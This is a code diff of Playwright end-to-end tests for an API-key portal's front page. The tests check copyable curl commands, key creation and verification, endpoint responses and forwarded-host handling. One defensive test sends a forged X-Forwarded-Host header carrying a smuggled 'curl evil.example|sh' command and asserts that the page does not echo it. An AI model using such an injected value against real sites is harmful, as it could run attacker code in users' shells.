@@ -1,14 +1,7 @@
 import type { Locator, Page } from "@playwright/test";
-import {
-  expect,
-  expectAccessible,
-  expectNoSidewaysScrolling,
-  layoutShift,
-  randomEmail,
-  runInBash,
-  tabTo,
-  test,
-} from "./fixtures";
+import { randomEmail } from "../support/client";
+import { shared } from "../support/portal";
+import { expect, expectAccessible, expectNoSidewaysScrolling, layoutShift, runInBash, tabTo, test } from "./fixtures";
 
 const copyButton = (page: Page, title: string): Locator => page.getByRole("button", { name: `Copy ${title}`, exact: true });
 
@@ -58,7 +51,7 @@ test.describe("On the front page a visitor", () => {
     expect(await page.evaluate(() => getSelection()?.toString().trim())).toMatch(/^curl http.*\n.*Bearer \$TOKEN"$/);
   });
 
-  test("gets a working key by pasting the commands into bash", async ({ page, context, deployment }) => {
+  test("gets a working key by pasting the commands into bash", async ({ page, context }) => {
     await context.grantPermissions(["clipboard-read", "clipboard-write"]);
     await page.goto("/");
     const email = randomEmail();
@@ -77,9 +70,9 @@ test.describe("On the front page a visitor", () => {
     const { data: key } = JSON.parse(created);
     expect(key.key_name).toBe("My first key");
     expect(JSON.parse(listed).data.api_keys.map(({ id }: { id: string }) => id)).toStrictEqual([key.id]);
-    const verdict = await fetch(`${deployment.url}/api/keys/verify`, {
+    const verdict = await fetch(`${shared().url}/api/keys/verify`, {
       method: "POST",
-      headers: { Authorization: `Bearer ${deployment.settings.SERVICE_API_SECRET}`, "Content-Type": "application/json" },
+      headers: { Authorization: `Bearer ${shared().settings.SERVICE_API_SECRET}`, "Content-Type": "application/json" },
       body: JSON.stringify({ key: key.api_key, secret: key.secret_key }),
     });
     expect(await verdict.json()).toMatchObject({ valid: true, key_id: key.id });
@@ -101,7 +94,7 @@ test.describe("On the front page a visitor", () => {
     );
   });
 
-  test("of the staff creates and lists keys by pasting the commands into bash", async ({ page, context, deployment }) => {
+  test("of the staff creates and lists keys by pasting the commands into bash", async ({ page, context }) => {
     await context.grantPermissions(["clipboard-read", "clipboard-write"]);
     await page.goto("/");
     const body = {
@@ -111,20 +104,20 @@ test.describe("On the front page a visitor", () => {
       first_name: "A",
       last_name: "B",
     };
-    const registered = await fetch(`${deployment.url}/api/auth/register/`, {
+    const registered = await fetch(`${shared().url}/api/auth/register/`, {
       method: "POST",
       headers: { "Content-Type": "application/json" },
       body: JSON.stringify(body),
     });
     const { user } = (await registered.json()) as { user: { id: string } };
-    const variables = { ADMIN_API_SECRET: deployment.settings.ADMIN_API_SECRET ?? "", USER_ID: user.id };
+    const variables = { ADMIN_API_SECRET: shared().settings.ADMIN_API_SECRET ?? "", USER_ID: user.id };
     const { key } = JSON.parse(runInBash(await copy(page, "Create a key for a user"), variables));
     expect(key).toMatchObject({ name: "Issued by staff", key: expect.stringMatching(/^datazag_[0-9a-f]{64}$/) });
     const { keys } = JSON.parse(runInBash(await copy(page, "List everyone’s keys"), variables));
     expect(keys.map(({ id }: { id: number }) => id)).toContain(key.id);
   });
 
-  test("finds every listed endpoint answering as listed", async ({ page, deployment }) => {
+  test("finds every listed endpoint answering as listed", async ({ page }) => {
     await page.goto("/");
     const rows = await page
       .getByRole("row")
@@ -134,7 +127,7 @@ test.describe("On the front page a visitor", () => {
     for (const row of rows) {
       const path = (await row.getByRole("code").innerText()).replace("{id}", "1");
       const method = await row.getByRole("cell").first().innerText();
-      const answer = await fetch(deployment.url + path, { method });
+      const answer = await fetch(shared().url + path, { method });
       // Without credentials and a body: asked for one or the other, or answered.
       expect(`${method} ${path} ${answer.status}`).toMatch(/ (200|400|401)$/);
       await answer.arrayBuffer();
@@ -148,18 +141,18 @@ test.describe("On the front page a visitor", () => {
     await expect(page.getByRole("heading", { name: "End a key; it stays listed" })).toBeInViewport();
   });
 
-  test("sees in the commands the address that led here, never what a forged header says", async ({ deployment }) => {
-    const { port } = new URL(deployment.url);
+  test("sees in the commands the address that led here, never what a forged header says", async () => {
+    const { port } = new URL(shared().url);
     const direct = await (await fetch(`http://127.0.0.1:${port}/`)).text();
     expect(direct).toContain(`curl http://127.0.0.1:${port}/api/auth/settings/`);
-    const proxied = await fetch(deployment.url, {
+    const proxied = await fetch(shared().url, {
       headers: { "X-Forwarded-Host": "keys.example.com", "X-Forwarded-Proto": "https" },
     });
     expect(await proxied.text()).toContain("curl https://keys.example.com/api/auth/settings/");
-    const forged = await fetch(deployment.url, { headers: { "X-Forwarded-Host": "x;curl evil.example|sh" } });
+    const forged = await fetch(shared().url, { headers: { "X-Forwarded-Host": "x;curl evil.example|sh" } });
     const html = await forged.text();
     expect(html).not.toContain("evil");
-    expect(html).toContain(`curl ${deployment.url}/api/auth/settings/`);
+    expect(html).toContain(`curl ${shared().url}/api/auth/settings/`);
   });
 
   test("reaches the health page", async ({ page }) => {
